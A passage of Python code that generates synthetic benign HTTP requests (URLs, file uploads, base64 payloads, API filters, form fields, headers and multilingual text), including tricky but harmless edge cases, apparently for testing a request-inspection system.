        hard_directives,
        hard_schema,
        hard_var_json,
        hard_batch,
    ]


def k_urls():
    def webhook():
        u = rng.choice(
            [
                "https://hooks.slack.com/services/T%s/B%s/%s" % (tok(8).upper(), tok(8).upper(), tok(24)),
                "https://discord.com/api/webhooks/%d/%s" % (rng.randint(10**17, 10**18), tok(40)),
                "https://outlook.office.com/webhook/%s" % uuid4(),
                "https://api.pagerduty.com/integration/%s/enqueue" % tok(16),
            ]
        )
        return B(
            "json",
            u,
            param="url",
            extra={"events": ["deploy.finished"]},
            path="/api/integrations/webhooks",
            method="POST",
        )

    def redirect():
        return B(
            "query",
            rng.choice(
                [
                    "https://app.trailmap.app/oauth/callback",
                    "https://www.northwind-shop.com/account",
                    "https://portal.hartwell-legal.com/sso/return",
                ]
            ),
            param="redirect_uri",
            q=[("client_id", tok(16)), ("response_type", "code"), ("state", tok(12))],
            path="/oauth/authorize",
        )

    def utm():
        return B(
            "query",
            rng.choice(["newsletter", "twitter", "partner_blog", "spring_sale"]),
            param="utm_campaign",
            q=[("utm_source", "email"), ("utm_medium", "newsletter")],
            path="/landing/winter",
        )

    def form_site():
        return B(
            "form",
            rng.choice(
                [
                    "https://www.example.org",
                    "https://janedoe.dev",
                    "https://github.com/%s" % tok(7),
                    "https://linkedin.com/in/%s-%s" % (tok(5), tok(4)),
                ]
            ),
            param="website",
            path="/profile",
        )

    def referer():
        return B(
            "header",
            "https://www.google.com/search?q=%s&oq=%s" % (rng.choice(["trail+running+shoes", "linen+duvet"]), tok(6)),
            hname="Referer",
            path="/products",
        )

    def cookie_last():
        return B(
            "cookie",
            rng.choice(["/products?category=shoes&page=2", "/account/orders", "/help/returns"]),
            cname="last_page",
            path="/",
        )

    def path_short():
        return B("path", tok(7, "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"), path="/r/{P}")

    def sitemap():
        doc = (
            '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n  <url><loc>https://www.citybikes.org/stations/%d</loc><lastmod>2026-12-01</lastmod></url>\n  <url><loc>https://www.citybikes.org/pricing</loc></url>\n</urlset>\n'
            % rng.randint(1, 500)
        )
        return B("xml", doc, xml="doc", path="/api/seo/sitemaps", ct="application/xml")

    def mp_link():
        return B(
            "multipart",
            rng.choice(
                ["https://www.youtube.com/watch?v=%s" % tok(11), "https://vimeo.com/%d" % rng.randint(10**7, 10**9)]
            ),
            param="video_url",
            path="/api/posts/media",
        )

    def hard_nested():
        t = [
            "https://www.google.com/url?q=https%3A%2F%2Fexample.org%2Fa%3Fb%3D1&sa=D&ust="
            + str(rng.randint(10**15, 10**16)),
            "https://medium.com/@jane.doe/why-we-moved-to-postgres-%s" % tok(12, HEXD),
            "https://maps.google.com/?q=40.7128,-74.0060&z=15",
            "https://en.wikipedia.org/wiki/C%2B%2B#History",
            "https://www.amazon.de/-/en/dp/B0C%s/ref=sr_1_1?keywords=usb+c+hub&qid=%d"
            % (tok(7).upper(), rng.randint(10**9, 10**10)),
            "https://user.github.io/#/docs?page=install&lang=en",
            "https://www.northwind-shop.com/login?next=%2Fcheckout%3Fstep%3Dpayment",
        ]
        return rng.choice(
            [
                B("json", rng.choice(t), param="link", path="/api/bookmarks", method="POST"),
                B("query", rng.choice(t), param="url", path="/api/link-preview"),
                B("form", rng.choice(t), param="source_url", path="/share"),
            ]
        )

    def hard_loopback():
        return B(
            "query",
            "http://127.0.0.1:%d/callback" % rng.choice([8765, 53682, 41823]),
            param="redirect_uri",
            q=[
                ("client_id", "cli-desktop"),
                ("code_challenge", b64u(bytes(rng.getrandbits(8) for _ in range(32)))),
                ("code_challenge_method", "S256"),
            ],
            path="/oauth/authorize",
        )

    def hard_mailto():
        return B(
            "json",
            rng.choice(
                [
                    "mailto:support@northwind-shop.com?subject=Order%20%2312345",
                    "tel:+1-555-010-2299",
                    "https://wa.me/15550102299?text=Hi%21",
                ]
            ),
            param="contact_link",
            path="/api/stores/12",
            method="PATCH",
        )

    def hard_key():
        return B(
            "query_key",
            rng.choice(["utm_content[]", "ref[source]", "fbclid", "gclid"]),
            kval=tok(18),
            path="/landing/winter",
        )

    return [webhook, redirect, utm, form_site, referer, cookie_last, path_short, sitemap, mp_link, webhook], [
        hard_nested,
        hard_loopback,
        hard_mailto,
        hard_key,
        hard_nested,
    ]


def k_files():
    ctypes = {
        "pdf": "application/pdf",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "jpg": "image/jpeg",
        "txt": "text/plain",
        "HEIC": "image/heic",
        "dwg": "application/acad",
        "png": "image/png",
        "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "epub": "application/epub+zip",
        "csv": "text/csv",
        "py": "text/x-python",
        "md": "text/markdown",
        "zip": "application/zip",
        "yaml": "application/x-yaml",
        "example": "text/plain",
        "mp4": "video/mp4",
        "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        "key": "application/x-iwork-keynote-sffkey",
    }
    bases = [
        "Résumé",
        "Q3 report",
        "Invoice",
        "Meeting notes",
        "Floorplan",
        "Budget FY27",
        "Scan",
        "Team photo",
        "Contract",
        "Lecture slides",
        "Tax return 2025",
        "Wedding playlist",
        "Site survey",
        "Passport copy",
        "Lease agreement",
        "Grant proposal",
        "Menu autumn",
    ]
    sufs = [
        "(final) v%d",
        "- draft #%d",
        "2026-12-0%d at 10.32.15",
        "copy %d",
        "signed",
        "v%d",
        "(%d)",
        "rev %d",
        "final FINAL",
        "%d of 3",
    ]
    exts = ["pdf", "xlsx", "docx", "jpg", "png", "pptx", "csv", "txt"]

    def fname():
        suf = rng.choice(sufs)
        if "%d" in suf:
            suf = suf % rng.randint(1, 9)
        return "%s%s%s.%s" % (rng.choice(bases), rng.choice([" ", "_", " - "]), suf, rng.choice(exts))

    def up():
        n = fname()
        return B(
            "multipart",
            n,
            mp="filename",
            fct=ctypes.get(n.rsplit(".", 1)[1], "application/octet-stream"),
            fcontent="(binary)",
            fieldname=rng.choice(["file", "upload", "document"]),
            path=rng.choice(["/api/files/upload", "/api/v2/uploads", "/drive/upload"]),
        )

    def folder():
        p = "%s/%s/%s" % (
            rng.choice(["project", "photos", "thesis", "assets", "clients/acme"]),
            rng.choice(["src", "2026/summer", "chapters", "fonts", "invoices"]),
            rng.choice(
                [
                    "main.py",
                    "img_%03d.jpg" % rng.randint(1, 999),
                    "03-methods.md",
                    "Inter-Bold.woff2",
                    "INV-%04d.pdf" % rng.randint(1, 9999),
                ]
            ),
        )
        return B(
            "multipart",
            p,
            mp="filename",
            fct="application/octet-stream",
            fcontent="...",
            fieldname="files[]",
            extra_parts=[("relativePath", p)],
            path="/api/drive/folders/upload",
        )

    def meta():
        return B(
            "json",
            fname(),
            param="filename",
            extra={"size": rng.randint(1000, 9000000), "parent_id": "fld_%s" % tok(8)},
            path="/api/files",
            method="POST",
        )

    def download():
        return B(
            "query",
            "%s/%d/%s"
            % (
                rng.choice(["reports", "exports", "shared/brand", "invoices"]),
                rng.randint(2023, 2026),
                rng.choice(["Q%d.pdf" % rng.randint(1, 4), "customers_%02d.csv" % rng.randint(1, 12), "logo.svg"]),
            ),
            param="file",
            path="/api/files/download",
        )

    def pathf():
        return B("path", fname(), path="/files/{P}")

    def header_fn():
        return B(
            "header",
            rng.choice(["quarterly-report-%d.pdf", "backup_2026-12-%02d.tar.gz", "video_final_%d.mp4"])
            % rng.randint(1, 28),
            hname="X-Upload-Filename",
            method="POST",
            path="/api/uploads/chunked",
        )

    def cookie_sort():
        return B(
            "cookie",
            rng.choice(["name_asc", "modified_desc", "size_desc", "type_asc"]) + rng.choice(["", ",grid", ",list"]),
            cname="files_sort",
            path="/drive",
        )

    def xml_manifest():
        return B("xml", fname(), param="fileName", path="/api/manifest")

    def hard_names():
        t = [
            "O'Reilly - Chapter %d.docx",
            "script_%d.sh.txt",
            "ñandú_ñoño %d.png",
            "my;file&name (copy %d).pdf",
            "report(%d).pdf",
            "C++ Primer %de.epub",
            "100%% organic %d.jpg",
            "~$Budget FY2%d.xlsx",
            ".env.example.%d",
            "config (prod) [old %d].yaml",
            "Invoice #44%02d - ACME, Inc..pdf",
            "a+b=c notes %d.md",
            "Mom & Dad's 4%d anniversary.mp4",
            "draft {v%d}.docx",
            "50%% off flyer v%d.png",
            "Pitch \u00abfinal\u00bb %d.key",
        ]
        n = rng.choice(t) % rng.randint(1, 9)
        ext = n.rsplit(".", 1)[1]
        return rng.choice(
            [
                B(
                    "multipart",
                    n,
                    mp="filename",
                    fct=ctypes.get(ext, "application/octet-stream"),
                    fcontent="(binary)",
                    fieldname="file",
                    path="/api/files/upload",
                ),
                B("json", n, param="name", path="/api/files/rename", method="PATCH"),
                B("path", n, path="/files/{P}"),
                B("query", n, param="filename", path="/api/files/exists"),
            ]
        )

    def hard_csv():
        n = rng.randint(3, 6)
        lines = ["item,qty,price,total"] + [
            "%s,%d,%.2f,=B%d*C%d"
            % (
                rng.choice(["Widget", "Gadget", "Bolt M6", "Cable 2m", "Hinge"]),
                rng.randint(1, 9),
                rng.uniform(1, 40),
                i,
                i,
            )
            for i in range(2, n + 2)
        ]
        lines.append("Total,,,=SUM(D2:D%d)" % (n + 1))
        return B(
            "multipart",
            "\n".join(lines) + "\n",
            mp="file",
            filename="order_calc_%d.csv" % rng.randint(1, 99),
            fct="text/csv",
            fieldname="sheet",
            path="/api/imports/csv",
        )

    def hard_key():
        return B(
            "json_key",
            rng.choice(
                [
                    "docs/contracts/2026/NDA (signed) %d.pdf",
                    "src/components/Button%d.tsx",
                    "My Drive/Taxes/202%d/W-2.pdf",
                    "Photos/Trip #%d/IMG_0001.jpg",
                ]
            )
            % rng.randint(1, 9),
            kval={"size": rng.randint(1000, 99999)},
            path="/api/sync/manifest",
            method="POST",
        )

    return [up, folder, meta, download, pathf, header_fn, cookie_sort, xml_manifest, up, meta], [
        hard_names,
        hard_csv,
        hard_key,
        hard_names,
    ]


def tiny_png(w, h, rgb):
    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )


def tiny_pdf(text):
    body = "BT /F1 12 Tf 72 720 Td (%s) Tj ET" % text
    pdf = (
        "%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj\n"
        "4 0 obj<</Length %d>>stream\n%s\nendstream endobj\n5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\ntrailer<</Root 1 0 R>>\n%%%%EOF\n"
    ) % (len(body), body)
    return pdf.encode("latin-1")


def k_base64():
    def img():
        png = tiny_png(
            rng.randint(1, 4), rng.randint(1, 4), (rng.randint(0, 255), rng.randint(0, 255), rng.randint(0, 255))
        )
        return B("json", "data:image/png;base64," + b64(png), param="avatar", path="/api/users/me/avatar", method="PUT")

    def pdf():
        return B(
            "json",
            b64(
                tiny_pdf(
                    rng.choice(["Invoice 2026-%04d" % rng.randint(1, 9999), "Signed consent form", "Delivery note"])
                )
            ),
            param="content_base64",
            extra={"filename": "doc.pdf", "mime": "application/pdf"},
            path="/api/documents",
            method="POST",
        )

    def basic():
        f, l = person()
        return B(
            "header",
            "Basic " + b64("%s:%s" % (f.lower(), tok(14, "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"))),
            hname="Authorization",
            path="/api/reports",
        )

    def bearer():
        return B("header", "Bearer " + jwt_like(), hname="Authorization", path="/api/me")

    def state():
        return B(
            "query",
            b64u(compact({"return_to": "/dashboard", "nonce": tok(10)})),
            param="state",
            q=[("code", tok(20))],
            path="/oauth/callback",
        )

    def sig():
        return B(
            "form",
            b64(bytes(rng.getrandbits(8) for _ in range(64))),
            param="signature",
            extra_form=[("public_key_id", "k_%s" % tok(6))],
            path="/api/verify",
        )

    def cookie_sess():
        return B(
            "cookie",
            b64u(compact({"user_id": rng.randint(1, 99999), "exp": 1796000000 + rng.randint(0, 10**6)}))
            + "."
            + b64u(bytes(rng.getrandbits(8) for _ in range(20))),
            cname="session",
            path="/dashboard",
        )

    def xml_att():
        return B(
            "xml",
            b64(("Hello %s,\nplease find the summary attached.\n" % rng.choice(FIRST)).encode()),
            param="attachment",
            path="/api/mail/outbound",
        )

    def mp_b64():
        return B(
            "multipart",
            b64(tiny_png(2, 2, (10, 120, 200))),
            param="thumbnail_b64",
            extra_parts=[("title", "Product shot")],
            path="/api/cms/assets",
        )

    def hard_webauthn():
        cd = compact(
            {
                "type": "webauthn.get",
                "challenge": b64u(bytes(rng.getrandbits(8) for _ in range(32))),
                "origin": "https://app.trailmap.app",
                "crossOrigin": False,
            }
        )
        return B(
            "json",
            b64u(cd),
            param="clientDataJSON",
            extra={"id": b64u(bytes(rng.getrandbits(8) for _ in range(16))), "type": "public-key"},
            path="/api/webauthn/assert",
            method="POST",
        )

    def hard_std():
        data = bytes(rng.getrandbits(8) for _ in range(rng.randint(48, 120)))
        return rng.choice(
            [
                B("form", b64(data), param="encrypted_payload", path="/api/secure-notes"),
                B(
                    "json",
                    b64(data),
                    param="ciphertext",
                    extra={"alg": "A256GCM", "iv": b64(bytes(rng.getrandbits(8) for _ in range(12)))},
                    path="/api/vault/items",
                    method="POST",
                ),
                B("query", b64(data), param="blob", path="/api/share/decode"),
            ]
        )

    def hard_pem():
        key = (
            "-----BEGIN PUBLIC KEY-----\n"
            + "\n".join(b64(bytes(rng.getrandbits(8) for _ in range(48))) for _ in range(5))
            + "\n-----END PUBLIC KEY-----\n"
        )
        return rng.choice(
            [
                B(
                    "multipart",
                    key,
                    mp="file",
                    filename="id_ed25519.pub.pem",
                    fct="application/x-pem-file",
                    fieldname="key",
                    path="/api/keys",
                ),
                B("json", key, param="public_key", path="/api/deploy-keys", method="POST"),
            ]
        )

    def hard_cookie():
        return B(
            "cookie",
            b64(compact({"consent": {"analytics": True, "ads": False}, "ts": 1796000000 + rng.randint(0, 999999)})),
            cname="consent_b64",
            path="/",
        )

    return [img, pdf, basic, bearer, state, sig, cookie_sess, xml_att, mp_b64, img], [
        hard_webauthn,
        hard_std,
        hard_pem,
        hard_cookie,
        hard_std,
    ]


def k_api_json():
    def filt():
        f = {
            "status": {"in": rng.sample(["open", "pending", "closed", "on_hold"], 2)},
            "created_at": {"gte": "2026-%02d-01" % rng.randint(1, 11)},
        }
        return B(
            "json",
            f,
            param="filter",
            extra={
                "sort": "-created_at",
                "page": {"size": rng.choice([25, 50]), "cursor": b64(compact({"id": rng.randint(100, 9999)}))},
            },
            path="/api/tickets/search",
            method="POST",
        )

    def pagination():
        return B(
            "query",
            b64(compact({"id": rng.randint(1000, 99999)})),
            param="cursor",
            q=[("limit", "50")],
            path="/api/v1/events",
        )

    def fields():
        return B(
            "query",
            rng.choice(["id,name,price", "id,title,author.name", "sku,stock,updated_at"]),
            param="fields",
            q=[("include", "author,comments")],
            path="/api/articles",
        )

    def nested():
        obj = {
            "address": {
                "geo": {"lat": round(rng.uniform(-60, 60), 5), "lng": round(rng.uniform(-150, 150), 5)},
                "city": rng.choice(CITIES)[0],
            }
        }
        return B("json", obj, param="location", deep=rng.choice([0, 11]), path="/api/stores", method="POST")

    def stripe_form():
        return B(
            "form",
            str(rng.randint(1000, 9999)),
            param="metadata[order_id]",
            extra_form=[("amount", str(rng.randint(100, 99999))), ("currency", "eur")],
            path="/v1/payment_intents",
            fill=False,
        )

    def jsonapi():
        return B(
            "query",
            rng.choice(["Smith", "García", "Tanaka"]),
            param="filter[author.name]",
            q=[("page[size]", "20")],
            path="/api/books",
        )

    def patch_ops():
        return B(
            "json",
            [
                {"op": "replace", "path": "/title", "value": "Q4 roadmap"},
                {"op": "add", "path": "/tags/-", "value": "planning"},
            ],
            param="operations",
            path="/api/docs/42",
            method="PATCH",
        )

    def header_idem():
        return B("header", uuid4(), hname="Idempotency-Key", method="POST", path="/api/payments")

    def xml_filter():
        return B(
            "xml",
            rng.choice(["status eq 'active'", "price lt 100", "country in ('DE','AT')"]),
            param="filter",
            path="/odata/report",
        )

    def path_res():
        return B("path", "ord_%s" % tok(14), path="/api/v2/orders/{P}")

    def cookie_tz():
        return B(
            "cookie", rng.choice(["Europe/Berlin", "America/Chicago", "Asia/Tokyo"]), cname="tz", path="/api/calendar"
        )

    def mp_meta():
        return B(
            "multipart",
            compact({"title": "Team offsite", "visibility": "private", "tags": ["2026", "planning"]}),
            param="metadata",
            extra_parts=[("album", "offsite")],
            path="/api/photos/batch",
        )

    def hard_strapi():
        k = rng.choice(
            [
                "filters[price][$lt]",
                "filters[title][$containsi]",
                "filters[$or][0][status][$eq]",
                "populate[author][fields][0]",
                "sort[0]",
            ]
        )
        return B(
            "query_key",
            k,
            kval=rng.choice(["100", "winter", "published", "name", "createdAt:desc"]),
            path="/api/products",
        )

    def hard_parse():
        return B(
            "query",
            compact({"score": {"$gte": rng.randint(100, 2000)}, "playerName": {"$in": ["Sean Plott", "Jane Doe"]}}),
            param="where",
            q=[("limit", "10")],
            path="/parse/classes/GameScore",
        )

    def hard_directus():
        return B(
            "query",
            rng.choice(["published", "draft"]),
            param="filter[status][_eq]",
            q=[("fields", "*,author.*")],
            path="/items/articles",
        )

    def hard_es():
        q = {
            "bool": {
                "must": [{"match": {"title": rng.choice(["winter boots", "espresso"])}}],
                "filter": [{"range": {"price": {"lte": 120}}}],
            }
        }
        return B("json", q, param="query", extra={"size": 20, "from": 0}, path="/api/catalog/_search", method="POST")

    def hard_mongo_style():
        f = {"$and": [{"tags": {"$in": ["urgent"]}}, {"due": {"$lt": "2026-12-31"}}]}
        return B("json", f, param="filter", path="/api/public/v1/tasks/query", method="POST")

    def hard_airtable():
        return B(
            "query", "AND({Status}='Done',{Priority}>2)", param="filterByFormula", path="/v0/app%s/Tasks" % tok(14)
        )

    return [
        filt,
        pagination,
        fields,
        nested,
        stripe_form,
        jsonapi,
        patch_ops,
        header_idem,
        xml_filter,
        path_res,
        cookie_tz,
        mp_meta,
    ], [hard_strapi, hard_parse, hard_directus, hard_es, hard_mongo_style, hard_airtable]


def k_forms():
    def signup():
        f, l = person()
        return rng.choice(
            [
                B(
                    "form",
                    email_for(f, l),
                    param="email",
                    extra_form=[("first_name", f), ("last_name", l)],
                    path="/signup",
                ),
                B(
                    "json",
                    "%s %s" % (f, l),
                    param="full_name",
                    extra={"email": email_for(f, l), "marketing_opt_in": rng.choice([True, False])},
                    path="/api/auth/register",
                    method="POST",
                ),
            ]
        )

    def address():
        c = rng.choice(CITIES)
        return B(
            "form",
            "%d %s" % (rng.randint(1, 300), rng.choice(STREETS)),
            param="address_line1",
            extra_form=[("city", c[0]), ("postcode", c[2]), ("country", c[3])],
            path="/account/address",
        )

    def phone():
        return B(
            "json",
            rng.choice(["+1 (555) 010-2299", "+44 20 7946 0958", "+49 30 901820", "+81 3-1234-5678"]),
            param="phone",
            path="/api/profile",
            method="PATCH",
        )

    def company():
        return B(
            "form",
            rng.choice(["AT&T", "Ben & Jerry's", "Procter & Gamble", "Marks & Spencer", "Johnson & Johnson", "H&M"]),
            param="company",
            path="/leads/new",
        )

    def contact_mp():
        return B(
            "multipart",
            rng.choice(
                [
                    "I'd like a quote for 40 chairs, delivered by mid-January.",
                    "Do you ship to Norway? Thanks!",
                    "Please call me back after 3pm.",
                ]
            ),
            param="message",
            extra_parts=[("name", "%s %s" % person())],
            path="/contact",
        )

    def newsletter_q():
        f, l = person()
        return B("query", email_for(f, l), param="email", path="/newsletter/confirm")

    def xml_reg():
        f, l = person()
        return B("xml", "%s %s" % (f, l), param="name", path="/api/registrations")

    def cookie_email():
        f, l = person()
        return B("cookie", email_for(f, l), cname="last_login_email", path="/login")

    def path_user():
        return B(
            "path", rng.choice(["jane.doe", "m.tanaka", "olivia_k", "liam-92"]), path="/api/users/{P}/availability"
        )

    def hard_pw():
        alphabet = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!@#$%^&*()-_=+[]{};:'\",.<>/?|~"
        pw = tok(rng.randint(14, 22), alphabet)
        return rng.choice(
            [
                B("form", pw, param="password", extra_form=[("email", email_for(*person()))], path="/signup"),
                B(
                    "json",
                    pw,
                    param="new_password",
                    extra={"current_password": tok(12, alphabet)},
                    path="/api/account/password",
                    method="POST",
                ),
                B(
                    "multipart",
                    pw,
                    param="password",
                    extra_parts=[("username", rng.choice(FIRST).lower())],
                    path="/api/register",
                ),
            ]
        )

    def hard_names():
        t = [
            "Se\u00e1n O'Connor-Smith",
            "D'Angelo Russo",
            "Jennifer Null",
            "Anna-Lena M\u00fcller-L\u00fcdenscheidt",
            "Mary-Kate O'Brien",
            'Zo\u00eb "Zee" Adams',
            "Robert Select",
            "Lucy Drop",
            "Jos\u00e9 Mar\u00eda de la Cruz y Ortega",
            "X \u00c6 A-12 Smith",
        ]
        return rng.choice(
            [
                B("form", rng.choice(t), param="full_name", path="/signup"),
                B("json", rng.choice(t), param="display_name", path="/api/profile", method="PATCH"),
                B("xml", rng.choice(t), param="name", path="/api/registrations"),
            ]
        )

    def hard_addr():
        t = [
            "12 1/2 Main St. #4B",
            "Flat 3, 22-24 King's Rd.",
            "Rua Dr. Jo\u00e3o Pessoa, 101 - apto 12",
            "P.O. Box 1234; Station A",
            "1600 Amphitheatre Pkwy (Bldg 40)",
        ]
        return B("form", rng.choice(t), param="address_line1", path="/account/address")

    def hard_bio():
        t = [
            "Full-stack dev. I <3 Rust & Go. Opinions = my own.",
            "Runner | Coffee > Tea | she/her",
            '"Stay hungry, stay foolish" -- building things @ night',
            "Select few things I love: maps, jazz; and union-made guitars",
        ]
        return B("json", rng.choice(t), param="bio", path="/api/profile", method="PATCH")

    return [signup, address, phone, company, contact_mp, newsletter_q, xml_reg, cookie_email, path_user, signup], [
        hard_pw,
        hard_names,
        hard_addr,
        hard_bio,
        hard_pw,
    ]


def k_headers():
    def traceparent():
        return B("header", "00-%s-%s-01" % (tok(32, HEXD), tok(16, HEXD)), hname="traceparent", path="/api/orders")

    def b3():
        return B("header", tok(16, HEXD), hname="X-B3-TraceId", path="/api/inventory")

    def cache():
        return B(
            "header",
            rng.choice(
                [
                    "no-cache",
                    "max-age=0",
                    "no-cache, no-store, must-revalidate",
                    "max-age=3600, stale-while-revalidate=60",
                ]
            ),
            hname="Cache-Control",
            path="/api/catalog",
        )

    def etag():
        return B(
            "header",
            'W/"%s-%s"' % (tok(4, HEXD), tok(27, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")),
            hname="If-None-Match",
            path="/api/products/%d" % rng.randint(1, 999),
        )

    def ua():
        return B(
            "header",
            rng.choice(
                UAS[:6]
                + [
                    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
                ]
            ),
            hname="User-Agent",
            path="/blog/post/%d" % rng.randint(1, 300),
        )

    def lang():
        return B("header", rng.choice(LANGS), hname="Accept-Language", path="/")

    def prefer():
        return B(
            "header",
            rng.choice(["return=minimal", "return=representation", "respond-async, wait=10"]),
            hname="Prefer",
            method="POST",
            path="/api/records",
        )

    def ga():
        return B(
            "cookie",
            "GA1.2.%d.%d" % (rng.randint(10**8, 10**9), 1790000000 + rng.randint(0, 9999999)),
            cname="_ga",
            path="/",
        )

    def xrid():
        return B("header", uuid4(), hname="X-Request-Id", path="/api/search")

    def hard_ch():
        v = rng.choice(
            [
                '"Chromium";v="131", "Not_A Brand";v="24", "Google Chrome";v="131"',
                '"Not)A;Brand";v="99", "Microsoft Edge";v="127", "Chromium";v="127"',
                '"Not/A)Brand";v="8", "Chromium";v="126", "Brave";v="126"',
            ]
        )
        return B("header", v, hname="Sec-CH-UA", path="/")

    def hard_forwarded():
        return rng.choice(
            [
                B(
                    "header",
                    'for="[2001:db8:cafe::17]:4711";proto=https;by=203.0.113.43',
                    hname="Forwarded",
                    path="/api/orders",
                ),
                B(
                    "header",
                    "203.0.113.%d, 10.0.%d.%d, 172.16.0.4"
                    % (rng.randint(2, 250), rng.randint(0, 255), rng.randint(1, 254)),
                    hname="X-Forwarded-For",
                    path="/api/login",
                ),
                B(
                    "header",
                    "Root=1-%s-%s;Parent=%s;Sampled=1" % (tok(8, HEXD), tok(24, HEXD), tok(16, HEXD)),
                    hname="X-Amzn-Trace-Id",
                    path="/api/health",
                ),
            ]
        )

    def hard_baggage():
        return B("header", "userId=alice,serverNode=DF%2028,isProduction=false", hname="baggage", path="/api/checkout")

    def hard_consent():
        v = "isGDPRApplies=true&datestamp=Sat+Dec+06+2026+10%3A11%3A12+GMT%2B0100&version=202411.1.0&groups=C0001%3A1%2CC0002%3A0%2CC0003%3A1&hosts="
        return rng.choice(
            [
                B("cookie", v, cname="OptanonConsent", path="/"),
                B("cookie", '{"necessary":true,"analytics":false,"marketing":false}', cname="cookie_consent", path="/"),
            ]
        )

    def hard_accept():
        return B(
            "header",
            rng.choice(
                [
                    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
                    "application/vnd.github+json; version=2022-11-28",
                    "application/json;odata.metadata=minimal;odata.streaming=true",
                ]
            ),
            hname="Accept",
            path="/api/data",
        )

    def hard_range():
        return B(
            "header",
            rng.choice(["bytes=0-1023", "bytes=500-999, 2000-", "bytes=-500"]),
            hname="Range",
            path="/videos/intro.mp4",
        )

    return [traceparent, b3, cache, etag, ua, lang, prefer, ga, xrid, traceparent], [
        hard_ch,
        hard_forwarded,
        hard_baggage,
        hard_consent,
        hard_accept,
        hard_range,
    ]


def k_i18n():
    def jp():
        return B(
            "json",
            rng.choice(
                [
                    "東京タワーの展望台、大人2名で予約したいです。",
                    "配送は午前中でお願いします（平日のみ）。",
                    "サイズ交換は可能でしょうか？",
                ]
            ),
            param="message",
            path="/api/support/messages",
            method="POST",
        )

    def ar():
        return B(
            "form",
            rng.choice(["مرحبا، أود تغيير عنوان التوصيل.", "شكرا لكم على الخدمة الممتازة", "متى يصل الطلب رقم ٤٥٢١؟"]),
            param="comment",
            path="/feedback",
        )

    def he():
        return B(
            "json",
            "\u200fשלום, ההזמנה שלי (מס' %d) עדיין לא הגיעה." % rng.randint(1000, 9999),
            param="body",
            path="/api/tickets",
            method="POST",
        )

    def emoji():
        return B(
            "json",
            rng.choice(
                [
                    "Great trip! 🏔️🥾👩‍💻 See you next year 🎉",
                    "Family 👨‍👩‍👧‍👦 loved it ❤️",
                    "Rated 5⭐ — best 🍜 in town",
                ]
            ),
            param="caption",
            path="/api/posts",
            method="POST",
        )

    def query_cjk():
        return B(
            "query",
            rng.choice(["北京 烤鸭 推荐", "서울 맛집", "大阪 ホテル 格安", "台北 夜市"]),
            param="q",
            path="/search",
        )

    def path_tag():
        return B("path", rng.choice(["東京", "café", "Zürich", "München", "Αθήνα", "Москва"]), path="/tags/{P}")

    def mp_name():
        return B(
            "multipart",
            rng.choice(["Приглашение на собрание", "Ελληνικά μαθήματα", "Ngôn ngữ Việt Nam", "हिन्दी कक्षा"]),
            param="title",
            path="/api/events",
        )

    def xml_i():
        return B(
            "xml",
            rng.choice(["Straße & Platz", "Çağrı Yılmaz", "Łódź, ul. Piotrkowska 12", "Ñuñoa, Santiago"]),
            param="address",
            path="/api/address/normalize",
        )

    def cookie_name():
        return B("cookie", rng.choice(["Zoë", "José", "Ærøskøbing", "Παύλος"]), cname="display_name", path="/")

    def thai():
        return B("form", rng.choice(["สวัสดีครับ ขอสอบถามเรื่องการจัดส่ง", "ขอบคุณมากค่ะ"]), param="message", path="/contact")

    def hard_fullwidth():
        t = [
            "ＡＢＣ１２３（株）",
            "価格＜1000円の商品",
            "送料無料！！（＊一部地域を除く）",
            "ｔｅｓｔ＠ｅｘａｍｐｌｅ．ｃｏｍ に送ってください",
            "「注文番号」：＃４５２１",
        ]
        return rng.choice(
            [
                B("json", rng.choice(t), param="note", path="/api/orders/notes", method="POST"),
                B("query", rng.choice(t), param="q", path="/search"),
                B("form", rng.choice(t), param="memo", path="/memo"),
            ]
        )

    def hard_rtl_mixed():
        t = [
            "\u200fהזמנה #4471 \u200e(ACME Ltd.)\u200f נשלחה",
            "العنوان: 12 شارع النيل، القاهرة <المنزل>",
            "Price: ٣٥٠ ر.س (incl. VAT 15%)",
            "मेरा ऑर्डर #A-221 कब आएगा?",
            "Zażółć gęślą jaźń -- test",
            "İstanbul'da ıslak zemin; DİKKAT!",
        ]
        return rng.choice(
            [
                B("json", rng.choice(t), param="text", deep=rng.choice([0, 10]), path="/api/messages", method="POST"),
                B("multipart", rng.choice(t), param="comment", path="/api/reviews"),
                B("xml", rng.choice(t), param="text", path="/api/translate"),
            ]
        )

    def hard_zwj():
        t = [
            "👩🏽‍⚕️ Dr. Amara on call",
            "🏳️‍🌈 Pride walk 🚶‍♀️🚶‍♂️",
            "a\u0301 vs \u00e1 (combining vs precomposed)",
            "fi\ufb01 ligature",
            "ℌ𝔢𝔩𝔩𝔬 𝔴𝔬𝔯𝔩𝔡 -- fancy text",
        ]
        return rng.choice(
            [
                B("json", rng.choice(t), param="status", path="/api/me/status", method="PUT"),
